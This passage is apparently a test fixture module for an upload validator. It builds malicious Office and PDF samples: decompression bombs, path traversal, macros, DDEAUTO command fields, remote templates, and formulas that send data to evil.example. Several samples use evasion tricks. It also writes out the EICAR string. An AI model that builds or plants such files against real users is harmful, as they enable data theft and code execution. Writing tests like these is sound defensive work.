/** Files that must not be kept, made here so that none of them lies in the repository. */
import { randomBytes } from "node:crypto";
import { constants, crc32, deflateRawSync, deflateSync } from "node:zlib";
import { PDFDocument } from "@cantoo/pdf-lib";
import type { RejectionReason } from "@portal/core/file-formats/rejection-reasons";
import { strToU8, zipSync } from "fflate";
import sharp from "sharp";
import { buildOnePagePdf, buildPdfFile } from "./build-pdf.ts";
import { buildCompoundFile, buildMainStream } from "./compound.ts";

export const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
export const DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
export const XLS = "application/vnd.ms-excel";
export const DOC = "application/msword";
const PDF = "application/pdf";

/** In two halves, or a scanner on a developer's machine takes this file away. */
export const eicarFile: Buffer = Buffer.from(
  ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-", "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].join(""),
);

export interface MaliciousFile {
  name: string;
  bytes: Uint8Array;
  /** Any of these tells the sender the truth. */
  reasons: readonly RejectionReason[];
}

type ZipParts = Record<string, string | Uint8Array>;
const buildZip = (parts: ZipParts): Uint8Array =>
  zipSync(
    Object.fromEntries(
      Object.entries(parts).map(([name, part]) => [name, typeof part === "string" ? strToU8(part) : part]),
    ),
  );
const mainParts = { [XLSX]: "xl/workbook.xml", [DOCX]: "word/document.xml" } as const;
const buildContentTypes = (type: typeof XLSX | typeof DOCX, more = ""): string =>
  `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${mainParts[type]}" ContentType="${type}.main+xml"/>${more}</Types>`;
/** A document of a type with `more` parts; a part of the same name takes the place of the usual one. */
export const buildOfficeDocument = (
  type: typeof XLSX | typeof DOCX,
  more: ZipParts = {},
  types = "",
): Uint8Array =>
  buildZip({
    "[Content_Types].xml": buildContentTypes(type, types),
    "_rels/.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${mainParts[type]}"/></Relationships>`,
    [mainParts[type]]: type === XLSX ? "<workbook/>" : "<w:document><w:body/></w:document>",
    ...more,
  });
const buildRelations = (type: string, target: string, mode = "External"): string =>
  `<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;

/** An old binary document's parts, and what a modern one is attacked with. */
export const buildOfficeAttacks = (type: typeof XLSX | typeof DOCX): MaliciousFile[] => {
  const folder = type === XLSX ? "xl" : "word";
  const rels = `${folder}/_rels/${type === XLSX ? "workbook" : "document"}.xml.rels`;
  const validDocument = buildOfficeDocument(type);
  const large = Buffer.alloc(6 * 1024 * 1024);
  const mislabelledDocument = Buffer.from(
    buildOfficeDocument(type, { [`${folder}/a.xml`]: new Uint8Array(1_000_000) }),
  );
  // The directory says that a part of a million bytes has ten.
  const nameOffset = mislabelledDocument.lastIndexOf(`${folder}/a.xml`);
  mislabelledDocument.writeUInt32LE(10, nameOffset - 46 + 24);
  mislabelledDocument.writeUInt32LE(10, mislabelledDocument.indexOf(`${folder}/a.xml`) - 30 + 22);
  return [
    {
      name: "a bomb of one part",
      bytes: buildOfficeDocument(type, { [`${folder}/b.xml`]: large }),
      reasons: ["fileUnpacked"],
    },
    {
      name: "a bomb of several parts",
      bytes: buildOfficeDocument(
        type,
        // One after the other each is small; together they are not.
        Object.fromEntries(
          Array.from({ length: 36 }, (_, n) => [`${folder}/b${n}.xml`, large.subarray(0, 3 * 1024 * 1024)]),
        ),
      ),
      reasons: ["fileUnpacked"],
    },
    {
      name: "a part that is longer than it says",
      bytes: mislabelledDocument,
      reasons: ["fileUnpacked", "fileBroken"],
    },
    {
      name: "thousands of parts",
      bytes: buildOfficeDocument(
        type,
        Object.fromEntries(Array.from({ length: 2_500 }, (_, n) => [`${folder}/p${n}.xml`, "<a/>"])),
      ),
      reasons: ["fileUnpacked"],
    },
    {
      name: "a path upwards",
      bytes: buildOfficeDocument(type, { "../../evil.xml": "<a/>" }),
      reasons: ["fileBroken"],
    },
    {
      name: "an absolute path",
      bytes: buildOfficeDocument(type, { "/etc/evil.xml": "<a/>" }),
      reasons: ["fileBroken"],
    },
    {
      name: "a drive's path",
      bytes: buildOfficeDocument(type, { "c:\\evil.xml": "<a/>" }),
      reasons: ["fileBroken"],
    },
    {
      name: "an archive in it",
      bytes: buildOfficeDocument(type, { [`${folder}/media/image1.png`]: buildZip({ "a.txt": "a" }) }),
      reasons: ["officeEmbedded"],
    },
    {
      name: "a macro project",
      bytes: buildOfficeDocument(type, { [`${folder}/vbaProject.bin`]: "code" }),
      reasons: ["officeMacro"],
    },
    {
      name: "a macro project under another name",
      bytes: buildOfficeDocument(type, {
        [`${folder}/media/image1.png`]: buildCompoundFile({ VBA: "code" }),
      }),
      reasons: ["officeMacro", "officeEmbedded"],
    },
    {
      name: "a content type with macros",
      bytes: buildOfficeDocument(
        type,
        {},
        `<Override PartName="/x.xml" ContentType="application/vnd.ms-excel.sheet.macro&#69;nabled.main+xml"/>`,
      ),
      reasons: ["officeMacro"],
    },
    {
      name: "an embedded document",
      bytes: buildOfficeDocument(type, { [`${folder}/embeddings/oleObject1.bin`]: "x" }),
      reasons: ["officeEmbedded"],
    },
    {
      name: "a program",
      bytes: buildOfficeDocument(type, { "setup.exe": "MZ" }),
      reasons: ["officeEmbedded"],
    },
    {
      name: "ActiveX",
      bytes: buildOfficeDocument(type, { [`${folder}/activeX/activeX1.xml`]: "<a/>" }),
      reasons: ["officeMacro"],
    },
    {
      name: "a template from elsewhere",
      bytes: buildOfficeDocument(type, {
        [rels]: buildRelations("attachedTemplate", "https://evil.example/t.dotm"),
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "a template from elsewhere, spelled in numbers",
      bytes: buildOfficeDocument(type, {
        [rels]: buildRelations("attachedTemplate", "https://evil.example/t.dotm", "Extern&#x61;l"),
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "a template from elsewhere, in UTF-16",
      bytes: buildOfficeDocument(type, {
        [rels]: Buffer.from(
          `\ufeff${buildRelations("attachedTemplate", "https://evil.example/t.dotm")}`,
          "utf16le",
        ),
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "a template from elsewhere, behind another attribute",
      bytes: buildOfficeDocument(type, {
        [rels]: buildRelations("attachedTemplate", "https://evil.example/?a>b' TargetMode='Internal' c"),
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "a template from elsewhere, between pretended comments",
      bytes: buildOfficeDocument(type, {
        [rels]: buildRelations("attachedTemplate", "https://evil.example/t.dotm")
          .replace("<Relationship ", "<![CDATA[<!--]]><Relationship ")
          .replace("/></", "/><![CDATA[-->]]></"),
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "a picture from elsewhere",
      bytes: buildOfficeDocument(type, { [rels]: buildRelations("image", "https://evil.example/p.png") }),
      reasons: ["officeLinked"],
    },
    {
      name: "a link that runs",
      bytes: buildOfficeDocument(type, { [rels]: buildRelations("hyperlink", "javascript:alert(1)") }),
      reasons: ["officeLinked"],
    },
    {
      name: "a link to a share",
      bytes: buildOfficeDocument(type, { [rels]: buildRelations("hyperlink", "file://evil.example/share") }),
      reasons: ["officeLinked"],
    },
    {
      name: "a template from elsewhere, under a prefix of other letters",
      bytes: buildOfficeDocument(type, {
        [rels]: buildRelations("attachedTemplate", "https://evil.example/t.dotm")
          .replace("<Relationships>", '<格:Relationships xmlns:格="urn:relationships">')
          .replace("<Relationship ", "<格:Relationship ")
          .replace("</Relationships>", "</格:Relationships>"),
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "a template from elsewhere, beside an attribute of another vocabulary",
      bytes: buildOfficeDocument(type, {
        [rels]: buildRelations("attachedTemplate", "https://evil.example/t.dotm").replace(
          "/></",
          ' z:TargetMode="Internal" z:Type="x/hyperlink"/></',
        ),
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "a template from elsewhere, as a part of its own",
      bytes: buildOfficeDocument(type, {
        [rels]: buildRelations("attachedTemplate", "file://evil.example/t.dotm", "Internal"),
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "a picture from elsewhere, in an old drawing",
      bytes: buildOfficeDocument(type, {
        [`${folder}/drawings/vmlDrawing1.vml`]:
          '<v:shape><v:imagedata src="//evil.example/p.png"/></v:shape>',
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "a link to a share, in an old drawing",
      bytes: buildOfficeDocument(type, {
        [`${folder}/drawings/vmlDrawing1.vml`]: '<v:shape href="file://evil.example/share" r:href="rId1"/>',
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "entities of its own",
      bytes: buildOfficeDocument(type, {
        [`${folder}/a.xml`]: '<!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>',
      }),
      reasons: ["fileBroken"],
    },
    ...(type === XLSX
      ? ([
          {
            name: "a sheet of Excel 4 macros",
            bytes: buildOfficeDocument(type, { "xl/macrosheets/sheet1.xml": "<a/>" }),
            reasons: ["officeMacro"],
          },
          {
            name: "a link to another workbook",
            bytes: buildOfficeDocument(type, { "xl/externalLinks/externalLink1.xml": "<a/>" }),
            reasons: ["officeLinked"],
          },
          {
            name: "a query of a database",
            bytes: buildOfficeDocument(type, { "xl/connections.xml": "<a/>" }),
            reasons: ["officeLinked"],
          },
          {
            name: "a formula that starts a program",
            bytes: buildOfficeDocument(type, {
              "xl/worksheets/sheet1.xml": "<c><f>cmd|'/c calc'!A0</f></c>",
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a formula that sends data away",
            bytes: buildOfficeDocument(type, { "xl/worksheets/sheet1.xml": "<c><f>WEBSERVICE(A1)</f></c>" }),
            reasons: ["officeLinked"],
          },
          {
            name: "a formula that fetches a picture",
            bytes: buildOfficeDocument(type, {
              "xl/worksheets/sheet1.xml": '<c><f>_xlfn.IMAGE("https://evil.example/?"&amp;A1)</f></c>',
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a formula that links to a share",
            bytes: buildOfficeDocument(type, {
              "xl/worksheets/sheet1.xml": '<c><f>HYPERLINK("\\\\evil\\share","invoice")</f></c>',
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a formula that links to a program",
            bytes: buildOfficeDocument(type, {
              "xl/worksheets/sheet1.xml": '<c><f>HYPERLINK("ms-msdt:"&amp;A1)</f></c>',
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a formula that links to a share, in pieces",
            bytes: buildOfficeDocument(type, {
              "xl/worksheets/sheet1.xml":
                '<c><f>HYPERLINK("\\"&amp;CHAR(92)&amp;"evil\\share","invoice")</f></c>',
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a formula that sends data away, on a sheet in another folder",
            bytes: buildOfficeDocument(type, { "docProps/sheet1.xml": "<c><f>WEBSERVICE(A1)</f></c>" }),
            reasons: ["officeLinked"],
          },
          {
            name: "a formula that sends data away, on a sheet that is called a picture",
            bytes: buildOfficeDocument(type, {
              "xl/media/image1.png": "\ufeff <c><f>WEBSERVICE(A1)</f></c>",
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a formula that sends data away, under a prefix of other letters",
            bytes: buildOfficeDocument(type, {
              "xl/worksheets/sheet1.xml": "<表:c><表:f>WEBSERVICE(A1)</表:f></表:c>",
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a formula that sends data away, around an element that Excel skips",
            bytes: buildOfficeDocument(type, {
              "xl/worksheets/sheet1.xml": "<c><f>WEB<z:a/>SERVICE(A1)</f></c>",
            }),
            reasons: ["fileBroken"],
          },
          {
            name: "a formula that computes a formula",
            bytes: buildOfficeDocument(type, {
              "xl/workbook.xml":
                '<workbook><definedName name="a">EVALUATE("WEB"&amp;"SERVICE(Sheet1!A1)")</definedName></workbook>',
            }),
            reasons: ["officeMacro"],
          },
          {
            name: "a formula behind spaces without an end",
            bytes: buildOfficeDocument(type, {
              "xl/worksheets/sheet1.xml": `<c><f ${" ".repeat(100_000)}<f>WEBSERVICE(A1)</f></c>`,
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a formula in another language",
            bytes: buildOfficeDocument(type, {
              "xl/worksheets/sheet1.xml": "<c><f>_xlfn._xlws.PY(0,1,A1)</f></c>",
            }),
            reasons: ["officeMacro"],
          },
          {
            name: "pictures of the web",
            bytes: buildOfficeDocument(type, { "xl/richData/rdRichValueWebImage.xml": "<webImagesSrd/>" }),
            reasons: ["officeLinked"],
          },
          {
            name: "a query of the web",
            bytes: buildOfficeDocument(type, {
              "customXml/item1.xml": Buffer.from(
                '\ufeff<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>',
                "utf16le",
              ),
            }),
            reasons: ["officeLinked"],
          },
        ] as const)
      : ([
          {
            name: "a field that starts a program",
            bytes: buildOfficeDocument(type, {
              "word/document.xml": '<w:p><w:fldSimple w:instr="DDEAUTO c:\\windows\\cmd.exe"/></w:p>',
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a field that starts a program, in pieces",
            bytes: buildOfficeDocument(type, {
              "word/document.xml":
                '<w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText><w:instrText>DE&#65;UTO cmd</w:instrText><w:fldChar w:fldCharType="end"/>',
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a field that links to a share",
            bytes: buildOfficeDocument(type, {
              "word/document.xml": '<w:fldSimple w:instr=" HYPERLINK &quot;\\\\\\\\evil\\\\share&quot; "/>',
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a field that links to a program, without quotes",
            bytes: buildOfficeDocument(type, {
              "word/document.xml":
                '<w:fldChar w:fldCharType="begin"/><w:instrText>HYPERLINK ms-msdt:/id \\o "invoice"</w:instrText><w:fldChar w:fldCharType="end"/>',
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a field that links to a share, in curly quotes",
            bytes: buildOfficeDocument(type, {
              "word/document.xml": '<w:fldSimple w:instr=" HYPERLINK “\\\\evil\\share” "/>',
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a field that starts a program, in a foot in another folder",
            bytes: buildOfficeDocument(type, {
              "docProps/footer1.xml": '<w:ftr><w:fldSimple w:instr="DDEAUTO cmd"/></w:ftr>',
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a field that starts a program, in a foot that is called a picture",
            bytes: buildOfficeDocument(type, {
              "word/media/image1.png": Buffer.from(
                '\ufeff<w:ftr><w:fldSimple w:instr="DDEAUTO cmd"/></w:ftr>',
                "utf16le",
              ),
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a field that starts a program, under a prefix of other letters",
            bytes: buildOfficeDocument(type, {
              "word/document.xml": '<文:p><文:fldSimple 文:instr="DDEAUTO cmd"/></文:p>',
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a field that starts a program, beside an attribute of another vocabulary",
            bytes: buildOfficeDocument(type, {
              "word/document.xml": '<w:p><w:fldSimple w:instr="DDEAUTO cmd" z:instr="PAGE"/></w:p>',
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a field that starts a program, whose beginning another vocabulary calls something else",
            bytes: buildOfficeDocument(type, {
              "word/document.xml":
                '<w:fldChar w:fldCharType="begin"/><w:instrText>PAGE </w:instrText><w:fldChar w:fldCharType="begin" z:fldCharType="separate"/><w:instrText>DDEAUTO cmd</w:instrText><w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="end"/>',
            }),
            reasons: ["fileBroken"],
          },
          {
            name: "a field that starts a program, around an element that Word skips",
            bytes: buildOfficeDocument(type, {
              "word/document.xml":
                '<w:fldChar w:fldCharType="begin"/><w:instrText>D<z:a/>DEAUTO cmd</w:instrText><w:fldChar w:fldCharType="end"/>',
            }),
            reasons: ["fileBroken"],
          },
          {
            name: "form letters with a database",
            bytes: buildOfficeDocument(type, {
              "word/settings.xml":
                '<w:settings><w:mailMerge><w:connectString w:val="Provider=MSDASQL;Data Source=\\\\evil\\a"/></w:mailMerge></w:settings>',
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a field whose name is computed",
            bytes: buildOfficeDocument(type, {
              "word/document.xml":
                '<w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 68 68 69</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText> cmd</w:instrText><w:fldChar w:fldCharType="end"/>',
            }),
            reasons: ["officeLinked"],
          },
        ] as const)),
    {
      name: "the other kind of document",
      bytes: buildOfficeDocument(type === XLSX ? DOCX : XLSX),
      reasons: ["fileType"],
    },
    { name: "an archive that is no document", bytes: buildZip({ "a.xml": "<a/>" }), reasons: ["fileType"] },
    {
      name: "cut off",
      bytes: validDocument.subarray(0, validDocument.length - 40),
      reasons: ["fileBroken", "fileMixed", "fileType"],
    },
    {
      name: "something before it",
      bytes: Buffer.concat([Buffer.from("GIF89a"), validDocument]),
      reasons: ["fileType", "fileMixed", "fileBroken"],
    },
    {
      name: "something after it",
      bytes: Buffer.concat([validDocument, Buffer.from("<script>alert(1)</script>")]),
      reasons: ["fileMixed"],
    },
  ];
};

/** A record of an old workbook that links to an address. */
export const buildAddressRecord = (address: string): Buffer =>
  Buffer.concat([
    Buffer.alloc(32),
    Buffer.from("e0c9ea79f9bace118c8200aa004ba90b", "hex"),
    Buffer.alloc(4),
    Buffer.from(`${address}\0`, "utf16le"),
  ]);

/** Old binary documents: honest ones by `compound.ts`. */
export const buildOldOfficeAttacks = (type: typeof XLS | typeof DOC): MaliciousFile[] => {
  const name = type === DOC ? "WordDocument" : "Workbook";
  const content = buildMainStream(type);
  return [
    { name: "macros", bytes: buildCompoundFile({ [name]: content, VBA: "x" }), reasons: ["officeMacro"] },
    {
      name: "macros of a workbook",
      bytes: buildCompoundFile({ [name]: content, _VBA_PROJECT_CUR: "x" }),
      reasons: ["officeMacro"],
    },
    {
      name: "an embedded object",
      bytes: buildCompoundFile({ [name]: content, ObjectPool: "x" }),
      reasons: ["officeEmbedded"],
    },
    {
      name: "an embedded file",
      bytes: buildCompoundFile({ [name]: content, "\u0001Ole10Native": "x" }),
      reasons: ["officeEmbedded"],
    },
    {
      name: "encrypted",
      bytes: buildCompoundFile({ EncryptedPackage: "x", EncryptionInfo: "x" }),
      reasons: ["filePassword"],
    },
    {
      name: "another kind of document",
      bytes: buildCompoundFile({ [type === DOC ? "Workbook" : "WordDocument"]: content }),
      reasons: ["fileType"],
    },
    ...(type === XLS
      ? ([
          {
            name: "a sheet of Excel 4 macros",
            bytes: buildCompoundFile({
              Workbook: buildMainStream(XLS, [[0x85, Buffer.from([0, 0, 0, 0, 0, 1, 0])]]),
            }),
            reasons: ["officeMacro"],
          },
          {
            name: "a password",
            bytes: buildCompoundFile({ Workbook: buildMainStream(XLS, [[0x2f, Buffer.alloc(6)]]) }),
            reasons: ["filePassword"],
          },
          {
            name: "a link to another workbook",
            bytes: buildCompoundFile({
              Workbook: buildMainStream(XLS, [[0x1ae, Buffer.from([1, 0, 4, 0, 0, 65, 66, 67, 68])]]),
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a link to a file",
            bytes: buildCompoundFile({
              Workbook: buildMainStream(XLS, [
                [
                  0x1b8,
                  Buffer.concat([Buffer.alloc(32), Buffer.from("0303000000000000c000000000000046", "hex")]),
                ],
              ]),
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a link to a program",
            bytes: buildCompoundFile({
              Workbook: buildMainStream(XLS, [[0x1b8, buildAddressRecord("ms-msdt:/id")]]),
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a link to a share",
            bytes: buildCompoundFile({
              Workbook: buildMainStream(XLS, [
                [0x1b8, Buffer.concat([Buffer.alloc(32), Buffer.from("\\\\evil\\share\0", "utf16le")])],
              ]),
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a function that sends data away",
            bytes: buildCompoundFile({
              Workbook: buildMainStream(XLS, [[0x23, Buffer.from("\0\0\0\0\0\0\u0010\0_xlfn.WEBSERVICE")]]),
            }),
            reasons: ["officeLinked"],
          },
        ] as const)
      : ([
          {
            name: "a field that starts a program",
            bytes: buildCompoundFile({
              WordDocument: Buffer.concat([content, Buffer.from("\u0013 DDEAUTO cmd.exe")]),
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a field that takes in another document",
            bytes: buildCompoundFile({
              WordDocument: Buffer.concat([content, Buffer.from("\u0013 RD c:\\a.doc\u0015")]),
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a field that links to a share",
            bytes: buildCompoundFile({
              WordDocument: Buffer.concat([
                content,
                Buffer.from('\u0013 HYPERLINK "\\\\evil\\share" \u0014invoice\u0015', "utf16le"),
              ]),
            }),
            reasons: ["officeLinked"],
          },
        ] as const)),
    {
      name: "cut off",
      bytes: buildCompoundFile({ [name]: content }).subarray(0, 1400),
      reasons: ["fileBroken", "fileType"],
    },
    {
      name: "an archive behind it",
      bytes: Buffer.concat([buildCompoundFile({ [name]: content }), buildZip({ "a.class": "x" })]),
      reasons: ["fileMixed"],
    },
  ];
};

const buildFlateStream = (entries: string, data: string | Uint8Array): Buffer => {
  const compressedData = deflateSync(typeof data === "string" ? Buffer.from(data) : data);
  return Buffer.concat([
    Buffer.from(`<< /Length ${compressedData.length} /Filter /FlateDecode ${entries} >>\nstream\n`),
    compressedData,
    Buffer.from("\nendstream"),
  ]);
};
const openedAddress = "<< /S /URI /URI (https://evil.example) >>";
const openedPlace = "<< /S /GoTo /D [3 0 R /Fit] >>";
const pdfWithAction = (action: string): Buffer =>
  buildOnePagePdf({ catalogue: "/OpenAction 5 0 R", more: [action] });
/** The same file with one more definition of an object, to which no cross-reference leads. */
const addDefinition = (pdf: Buffer, definition: string): Buffer => {
  const text = pdf.toString("latin1");
  const at = text.indexOf("xref\n");
  return Buffer.from(
    `${text.slice(0, at)}${definition}${text.slice(at).replace(/startxref\n\d+/, `startxref\n${at + definition.length}`)}`,
    "latin1",
  );
};
const buildOpenAction = (script: string): string => `/OpenAction << /Type /Action ${script} >>`;
/** An object inside a stream of objects, where a search through the file does not see it. */
const buildObjectStream = (object: string): Buffer => {
  const head = "9 0 ";
  return buildFlateStream(`/Type /ObjStm /N 1 /First ${head.length}`, `${head}${object}`);
};

/** A stream whose bytes are as they are given, under a filter. */
export const buildFilteredStream = (filter: string, data: Uint8Array): Buffer =>
  Buffer.concat([
    Buffer.from(`<< /Length ${data.length} /Filter ${filter} >>\nstream\n`),
    data,
    Buffer.from("\nendstream"),
  ]);
const packedMegabyte = deflateRawSync(Buffer.alloc(1 << 20), { finishFlush: constants.Z_FULL_FLUSH });
/** Deflated zeros, put together from one megabyte, with a checksum that is wrong. */
const packZeros = (megabytes: number): Buffer =>
  Buffer.concat([
    Buffer.from("789c", "hex"),
    ...Array.from({ length: megabytes }, () => packedMegabyte),
    Buffer.from("030000000000", "hex"),
  ]);
/** Zeros as LZW codes: each one stands for one zero more than the one before it, and the last one for 3,838. */
export const buildLzwZeros = (lastCodes: number): Buffer => {
  const bits: string[] = [];
  let [width, next] = [9, 258];
  const addCode = (code: number): void => {
    bits.push(code.toString(2).padStart(width, "0"));
  };
  addCode(256);
  addCode(0);
  while (next < 4096) {
    if (next + 1 >= 1 << width && width < 12) width += 1;
    addCode(next);
    next += 1;
  }
  for (let n = 0; n < lastCodes; n += 1) addCode(4095);
  addCode(257);
  return Buffer.from(
    (bits.join("").match(/.{1,8}/g) ?? []).map((byte) => Number.parseInt(byte.padEnd(8, "0"), 2)),
  );
};
/** Bytes as letters (ISO 32000-2 › 7.4.3), without the short form of zeros. */
export const encodeAscii85 = (bytes: Uint8Array): string => {
  const groups: string[] = [];
  for (let at = 0; at < bytes.length; at += 4) {
    const group = Buffer.alloc(4);
    group.set(bytes.subarray(at, at + 4));
    let value = group.readUInt32BE();
    const letters = Array.from({ length: 5 }, () => {
      const letter = String.fromCharCode(33 + (value % 85));
      value = Math.floor(value / 85);
      return letter;
    });
    groups.push(
      letters
        .reverse()
        .join("")
        .slice(0, Math.min(bytes.length - at, 4) + 1),
    );
  }
  return groups.join("");
};
/** A file whose latest table of objects names an earlier one, which stands inside a stream. */
const buildPdfWithHiddenTable = (): Buffer => {
  const table = Buffer.from("xref\n6 1\n0000000009 00000 n \ntrailer\n<< /Size 9 /Root 1 0 R >>\n");
  const pdf = buildOnePagePdf({
    more: [
      Buffer.concat([
        Buffer.from(`<< /Length ${table.length} >>\nstream\n`),
        table,
        Buffer.from("\nendstream"),
      ]),
    ],
    trailer: "/Prev 0000000000",
  });
  const offset = String(pdf.indexOf("xref\n6 1")).padStart(10, "0");
  return Buffer.from(pdf.toString("latin1").replace("/Prev 0000000000", `/Prev ${offset}`), "latin1");
};

export const buildPdfAttacks = async (): Promise<MaliciousFile[]> => {
  const attachmentPdf = await PDFDocument.create();
  attachmentPdf.addPage();
  await attachmentPdf.attach(Buffer.from("MZ"), "invoice.exe");
  const encryptedPdf = await PDFDocument.create();
  encryptedPdf.addPage();
  encryptedPdf.encrypt({ userPassword: "a", ownerPassword: "b" });
  const scriptedPdf = await PDFDocument.create();
  scriptedPdf.addPage();
  scriptedPdf.addJavaScript("main", "app.alert(1)");
  const validPdf = buildOnePagePdf();
  const script = Buffer.from("7 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj");
  const pdfWithHiddenScript = buildOnePagePdf({
    more: [
      Buffer.concat([
        Buffer.from(`<< /Length ${script.length} >>\nstream\n`),
        script,
        Buffer.from("\nendstream"),
      ]),
    ],
  });
  // A cross-reference leads into the middle of a stream, where an object stands that a reader from top to bottom skips.
  const misdirectedPdf = Buffer.from(
    pdfWithHiddenScript
      .toString("latin1")
      .replace(/(\d{10}) 00000 n \ntrailer/, (whole, at: string) =>
        whole.replace(at, String(pdfWithHiddenScript.indexOf("7 0 obj")).padStart(10, "0")),
      ),
    "latin1",
  );
  const zeros = packZeros(270);
  const streamWithWrongChecksum = buildFilteredStream("/FlateDecode", packZeros(200));
  const damagedZeros = packZeros(200);
  const damagedStream = buildFilteredStream("/FlateDecode", damagedZeros.fill(255, damagedZeros.length - 24));
  const cases: [string, Uint8Array, ...RejectionReason[]][] = [
    ["an earlier table of objects inside a stream", buildPdfWithHiddenTable(), "fileBroken"],
    ["a script in a stream, where a repair finds it", pdfWithHiddenScript, "fileBroken"],
    [
      "a script in a comment, where a repair finds it",
      addDefinition(validPdf, "%7 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj\n"),
      "fileBroken",
    ],
    [
      "a script in a text, where a repair finds it",
      buildOnePagePdf({ more: ["(endobj 7 0 obj << /S /JavaScript /JS (a) >> endobj)"] }),
      "fileBroken",
    ],
    [
      "a base of its links on a share, told elsewhere",
      buildOnePagePdf({ catalogue: "/URI << /Base 5 0 R >>", more: ["(file://evil/share/)"] }),
      "pdfScript",
    ],
    ["a number without an end", buildOnePagePdf({ more: [`[${"1".repeat(200_000)}x]`] }), "fileBroken"],
    [
      "a bomb of two streams whose checksums are wrong",
      buildOnePagePdf({ more: [streamWithWrongChecksum, streamWithWrongChecksum] }),
      "fileUnpacked",
    ],
    [
      "a bomb of two streams that are damaged at their ends",
      buildOnePagePdf({ more: [damagedStream, damagedStream] }),
      "fileUnpacked",
    ],
    [
      "a bomb written in digits",
      buildOnePagePdf({
        more: [
          buildFilteredStream("[/ASCIIHexDecode /FlateDecode]", Buffer.from(`${zeros.toString("hex")}>`)),
        ],
      }),
      "fileUnpacked",
    ],
    [
      "a bomb written in letters",
      buildOnePagePdf({
        more: [buildFilteredStream("[/A85 /Fl]", Buffer.from(`${encodeAscii85(zeros)}~>`))],
      }),
      "fileUnpacked",
    ],
    [
      "a bomb of LZW",
      buildOnePagePdf({ more: [buildFilteredStream("/LZWDecode", buildLzwZeros(75_000))] }),
      "fileUnpacked",
    ],
    [
      "a bomb of runs",
      buildOnePagePdf({
        more: [
          buildFilteredStream("/RunLengthDecode", Buffer.alloc(4.5 * 1024 * 1024, Buffer.from([129, 0]))),
        ],
      }),
      "fileUnpacked",
    ],
    [
      "a picture larger than any paper, whose size stands elsewhere",
      buildOnePagePdf({
        more: [buildFlateStream("/Type /XObject /Subtype /Image /Width 6 0 R /Height 6 0 R", "x"), "60000"],
      }),
      "imagePixels",
    ],
    [
      "a photograph larger than it is called",
      buildOnePagePdf({
        more: [
          Buffer.concat([
            Buffer.from("<< /Length 24 /Filter /DCTDecode /Subtype /Image /Width 9 /Height 9 >>\nstream\n"),
            Buffer.from("ffd8ffc0001108ea60ea6003".padEnd(48, "0"), "hex"),
            Buffer.from("\nendstream"),
          ]),
        ],
      }),
      "imagePixels",
    ],
    [
      "a script as it opens",
      buildOnePagePdf({ catalogue: buildOpenAction("/S /JavaScript /JS (app.alert\\(1\\))") }),
      "pdfScript",
    ],
    [
      "a page of another file",
      buildOnePagePdf({
        more: [buildFlateStream("/Subtype /Form /Ref << /F (http://evil.example/a.pdf) /Page 0 >>", "x")],
      }),
      "pdfAttachment",
    ],
    [
      "a page of another file that is named elsewhere",
      buildOnePagePdf({
        more: [
          buildFlateStream("/Subtype /Form /Ref << /F 6 0 R /Page 0 >>", "x"),
          "(http://evil.example/a.pdf)",
        ],
      }),
      "pdfAttachment",
    ],
    [
      "a file that is named for one system",
      buildOnePagePdf({ more: [buildFlateStream("/OPI << /1.3 << /F << /UF (evil.tif) >> >> >>", "x")] }),
      "pdfAttachment",
    ],
    [
      "a link to a share",
      buildOnePagePdf({
        page: "/Annots [<< /Subtype /Link /A << /S /URI /URI (\\\\\\\\evil\\\\share) >> >>]",
      }),
      "pdfScript",
    ],
